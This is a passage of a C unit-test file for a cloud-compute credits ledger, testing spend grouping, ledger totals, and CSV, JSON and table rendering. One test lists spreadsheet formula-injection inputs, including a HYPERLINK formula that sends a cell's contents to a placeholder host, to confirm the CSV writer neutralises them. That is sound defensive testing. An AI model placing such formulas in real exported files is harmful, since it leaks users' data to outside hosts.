	assert_int_equal(isc_store_ledger_spend(f->tmp.s, q, rows, n, &err), 0);
	assert_int_equal(isc_spend_total(*rows, *n, &total, &err), 0);
	return total;
}

static void seed_spend(struct fixture *f)
{
	struct isc_err err;
	struct isc_charge c;
	char *p2 = NULL;

	assert_int_equal(isc_store_project_add(f->tmp.s, "demo", "a,\"b\"", &p2, &err), 0);
	add_experiment(f, "exp_1", f->project_id, f->org_id);
	add_experiment(f, "exp_2", p2, f->org_id);
	assert_int_equal(isc_credits_grant(f->tmp.s, "demo", USD(1000), NULL, &err), 0);
	/* exp_1: aws, 1 h at $3 on day 1; a charge spanning midnight into day 2 ($2). */
	c = charge("exp_1", "i-1", USD(3), DAY1, DAY1 + 3600000);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	c = charge("exp_1", "i-1", USD(4), DAY1 + ISC_MS_PER_DAY - 1800000, DAY1 + ISC_MS_PER_DAY);
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	/* exp_2: gcp, 90 s at $32.77/h on day 2. */
	c = charge("exp_2", "i-2", 32770000, DAY1 + ISC_MS_PER_DAY, DAY1 + ISC_MS_PER_DAY + 90000);
	c.provider = "gcp";
	c.shape_id = "gcp:us-central1:a2-highgpu-8g";
	assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	free(p2);
}

static void test_spend_grouping(void **state)
{
	struct fixture *f = *state;
	struct isc_spend_query q = {0};
	struct isc_spend_row *rows;
	const int64_t all = USD(3) + USD(2) + 819250;
	size_t n;

	seed_spend(f);
	for (int by = ISC_SPEND_BY_PROJECT; by <= ISC_SPEND_BY_DAY; by++) {
		q.by = (enum isc_spend_by)by;
		assert_int_equal(spend_total(f, &q, &rows, &n), all);
		assert_true(n >= 2);
		isc_spend_rows_free(rows, n);
	}
	q.by = ISC_SPEND_BY_PROJECT;
	spend_total(f, &q, &rows, &n);
	assert_int_equal(n, 2);
	assert_string_equal(rows[0].key, "a,\"b\"");
	assert_int_equal(rows[0].amount_micros, 819250);
	assert_string_equal(rows[1].key, "vision");
	assert_string_equal(rows[1].id, f->project_id);
	isc_spend_rows_free(rows, n);

	q.by = ISC_SPEND_BY_DAY; /* the midnight-spanning charge belongs to day 1 */
	spend_total(f, &q, &rows, &n);
	assert_int_equal(n, 2);
	assert_string_equal(rows[0].key, "2024-06-01");
	assert_int_equal(rows[0].amount_micros, USD(5));
	assert_string_equal(rows[1].key, "2024-06-02");
	isc_spend_rows_free(rows, n);

	q.by = ISC_SPEND_BY_PROVIDER;
	spend_total(f, &q, &rows, &n);
	assert_string_equal(rows[0].key, "aws");
	assert_string_equal(rows[1].key, "gcp");
	isc_spend_rows_free(rows, n);

	/* Date bounds: --to 2024-06-01 takes day 1 through 23:59:59.999; --from day 2 the rest. */
	q.by = ISC_SPEND_BY_EXPERIMENT;
	q.has_to = 1;
	q.to_ms = DAY1 + ISC_MS_PER_DAY - 1;
	assert_int_equal(spend_total(f, &q, &rows, &n), USD(5));
	isc_spend_rows_free(rows, n);
	q.has_to = 0;
	q.has_from = 1;
	q.from_ms = DAY1 + ISC_MS_PER_DAY;
	assert_int_equal(spend_total(f, &q, &rows, &n), 819250);
	isc_spend_rows_free(rows, n);

	/* Filters by org and project. */
	memset(&q, 0, sizeof(q));
	q.org_name = "demo";
	q.project = "vision";
	assert_int_equal(spend_total(f, &q, &rows, &n), USD(5));
	isc_spend_rows_free(rows, n);
	q.org_name = "other";
	assert_int_equal(spend_total(f, &q, &rows, &n), 0);
	assert_int_equal(n, 0);
	isc_spend_rows_free(rows, n);
}

/* One full scan of the ledger, the way the totals were computed before migration 8. */
static int64_t scan(struct fixture *f, const char *sql, const char *key)
{
	struct isc_db_stmt *st;
	int64_t v;
	assert_int_equal(isc_db_prepare(isc_store_db(f->tmp.s), sql, 0, &st), ISC_DB_OK);
	isc_db_bind_text(st, 1, key, -1, ISC_DB_STATIC);
	assert_int_equal(isc_db_step(st), ISC_DB_ROW);
	v = isc_db_column_int64(st, 0);
	isc_db_finalize(st);
	return v;
}

/* The trigger-kept totals equal sums over the rows, for every scope, after mixed traffic. */
static void test_totals_match_rows(void **state)
{
	struct fixture *f = *state;
	struct isc_err err;
	int64_t bal, res, spent, held, cost;
	char org[24];

	seed_spend(f);
	add_experiment(f, "exp_t", f->project_id, f->org_id);
	add_cluster(f, "cl_t", "exp_t", "default", 2, USD(3));
	assert_int_equal(isc_credits_reserve(f->tmp.s, "exp_t", "cl_t", USD(4), &err), 0);
	for (int i = 0; i < 20; i++) {
		struct isc_charge c =
		    charge("exp_t", i % 2 ? "i-t1" : "i-t0", USD(3), i * 60000, (i + 1) * 60000);
		c.cluster_id = "cl_t";
		assert_int_equal(isc_credits_charge_node(f->tmp.s, &c, &err), 0);
	}
	assert_int_equal(isc_credits_renew(f->tmp.s, "exp_t", "cl_t", USD(5), &err), 0);
	assert_int_equal(isc_credits_release(f->tmp.s, "exp_t", &err), 0);

	snprintf(org, sizeof(org), "%lld", (long long)f->org_id);
	assert_int_equal(isc_store_ledger_org_sums(f->tmp.s, f->org_id, &bal, &res, &err), 0);
	assert_true(bal ==
	            scan(f,
	                 "SELECT COALESCE(SUM(CASE kind WHEN 'grant' THEN amount_micros "
	                 "WHEN 'refund' THEN amount_micros WHEN 'adjustment' THEN "
	                 "amount_micros WHEN 'charge' THEN -amount_micros ELSE 0 END), 0) "
	                 "FROM ledger WHERE CAST(org_id AS TEXT) = ? AND billing = 'credits'",
	                 org));
	assert_true(res == scan(f,
	                        "SELECT COALESCE(SUM(CASE kind WHEN 'reserve' THEN amount_micros "
	                        "WHEN 'release' THEN -amount_micros WHEN 'charge' THEN "
	                        "-consumed_micros ELSE 0 END), 0) FROM ledger "
	                        "WHERE CAST(org_id AS TEXT) = ? AND billing = 'credits'",
	                        org));
	assert_int_equal(isc_store_ledger_project_sums(f->tmp.s, f->project_id, &spent, &res, &err),
	                 0);
	assert_true(spent == scan(f,
	                          "SELECT COALESCE(SUM(amount_micros), 0) FROM ledger WHERE "
	                          "project_id = ? AND kind = 'charge' AND billing = 'credits'",
	                          f->project_id));
	assert_true(spent > 0);
	assert_int_equal(isc_store_ledger_experiment_held(f->tmp.s, "exp_t", &held, &err), 0);
	assert_true(held == 0); /* released */
	assert_int_equal(isc_store_ledger_experiment_cost(f->tmp.s, "exp_t", &cost, &err), 0);
	assert_true(cost == scan(f,
	                         "SELECT COALESCE(SUM(amount_micros), 0) FROM ledger WHERE "
	                         "experiment_id = ? AND kind = 'charge'",
	                         "exp_t"));
	assert_true(cost == 20 * isc_credits_cost_micros(USD(3), 60000));
	/* a scope with no rows reads as zero */
	assert_int_equal(isc_store_ledger_experiment_cost(f->tmp.s, "exp_none", &cost, &err), 0);
	assert_true(cost == 0);
}

/*
 * The report's text table (GET /v1/spend?format=table) pads by display width: with
 * the amounts right-aligned last, every line is as wide on a terminal, 日本語 or not.
 */
static void test_spend_table_display_width(void **state)
{
	struct isc_spend_row rows[] = {
	    {"日本語", "exp_00000000000000a1", 1},
	    {"resnet", "exp_00000000000000a2", 1499965784},
	};
	struct isc_buf out;
	struct isc_err err;
	char *text, *line, *save = NULL;
	size_t width = 0, lines = 0;
	(void)state;

	isc_buf_init(&out, 0);
	assert_int_equal(
	    isc_spend_render(rows, 2, ISC_SPEND_BY_EXPERIMENT, ISC_SPEND_TABLE, &out, &err), 0);
	text = strdup(isc_buf_cstr(&out));
	assert_non_null(strstr(text, "日本語"));
	assert_non_null(strstr(text, "1499.965784"));
	for (line = strtok_r(text, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		if (!lines++)
			width = isc_text_width(line);
		assert_int_equal(isc_text_width(line), width);
	}
	assert_int_equal(lines, 4); /* the header, two rows, the total */
	free(text);
	isc_buf_cleanup(&out);
}

static void test_spend_render(void **state)
{
	struct fixture *f = *state;
	struct isc_spend_query q = {0};
	struct isc_spend_row *rows;
	struct isc_buf out;
	struct isc_err err;
	enum isc_spend_by by;
	enum isc_spend_format fmt;
	size_t n;

	seed_spend(f);
	spend_total(f, &q, &rows, &n);
	isc_buf_init(&out, 0);
	assert_int_equal(isc_spend_render(rows, n, ISC_SPEND_BY_PROJECT, ISC_SPEND_CSV, &out, &err),
	                 0);
	{
		char *want;
		assert_int_not_equal(asprintf(&want,
		                              "project,project_id,amount,amount_micros\r\n"
		                              "\"a,\"\"b\"\"\",%s,0.819250,819250\r\n"
		                              "vision,%s,5.000000,5000000\r\n"
		                              "TOTAL,,5.819250,5819250\r\n",
		                              rows[0].id, f->project_id),
		                     -1);
		assert_string_equal(isc_buf_cstr(&out), want);
		free(want);
	}
	isc_buf_reset(&out);
	assert_int_equal(
	    isc_spend_render(rows, n, ISC_SPEND_BY_PROJECT, ISC_SPEND_JSON, &out, &err), 0);
	assert_non_null(strstr(isc_buf_cstr(&out), "\"key\": \"a,\\\"b\\\"\""));
	assert_non_null(strstr(isc_buf_cstr(&out), "\"total_micros\": 5819250"));
	assert_non_null(strstr(isc_buf_cstr(&out), "\"total\": \"5.819250\""));
	isc_buf_reset(&out);
	assert_int_equal(
	    isc_spend_render(rows, n, ISC_SPEND_BY_PROJECT, ISC_SPEND_TABLE, &out, &err), 0);
	assert_non_null(strstr(isc_buf_cstr(&out), "5.81925"));
	isc_buf_cleanup(&out);
	isc_spend_rows_free(rows, n);

	assert_int_equal(isc_spend_by_parse("day", &by, &err), 0);
	assert_int_equal(by, ISC_SPEND_BY_DAY);
	assert_int_equal(isc_spend_by_parse("week", &by, &err), ISC_EINVALID);
	assert_non_null(strstr(err.msg, "week"));
	assert_int_equal(isc_spend_format_parse("xml", &fmt, &err), ISC_EINVALID);

	isc_buf_init(&out, 0);
	assert_int_equal(isc_csv_field(&out, "plain"), 0);
	assert_int_equal(isc_csv_field(&out, " edge"), 0);
	assert_int_equal(isc_csv_field(&out, "line\nbreak"), 0);
	assert_string_equal(isc_buf_cstr(&out), "plain\" edge\"\"line\nbreak\"");
	isc_buf_cleanup(&out);

	/* spreadsheet formulas go as text (issue 42); plain numbers stay numbers */
	static const char *const cells[][2] = {
	    {"=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&B3,\"open invoice\")",
	     "\"'=HYPERLINK(\"\"http://127.0.0.1:9/?leak=\"\"&B3,\"\"open invoice\"\")\""},
	    {"+1+1", "\"'+1+1\""},
	    {"-2+3", "\"'-2+3\""},
	    {"@SUM(A1:A2)", "\"'@SUM(A1:A2)\""},
	    {"\t=1", "\"'\t=1\""},
	    {"\r=1", "\"'\r=1\""},
	    {"-", "\"'-\""},
	    {"-1.50", "-1.50"},
	    {"+3", "+3"},
	    {"42", "42"},
	    {"a=b", "a=b"},
	    {"vision-2", "vision-2"},
	};
	for (size_t i = 0; i < sizeof(cells) / sizeof(cells[0]); i++) {
		isc_buf_init(&out, 0);
		assert_int_equal(isc_csv_field(&out, cells[i][0]), 0);
		assert_string_equal(isc_buf_cstr(&out), cells[i][1]);
		isc_buf_cleanup(&out);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_money_parse),
	    cmocka_unit_test(test_money_format),
	    cmocka_unit_test(test_dates),
	    cmocka_unit_test_setup_teardown(test_grant_and_balance, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_reserve_beyond_available, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_budget, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_release_and_renew, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_hold_rule, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_holds_check, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_charge_math, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_charge_dedup, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_ledger_immutable, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_byo, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_spend_grouping, setup, teardown),
	    cmocka_unit_test_setup_teardown(test_spend_render, setup, teardown),
	    cmocka_unit_test(test_spend_table_display_width),
	    cmocka_unit_test_setup_teardown(test_totals_match_rows, setup, teardown),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
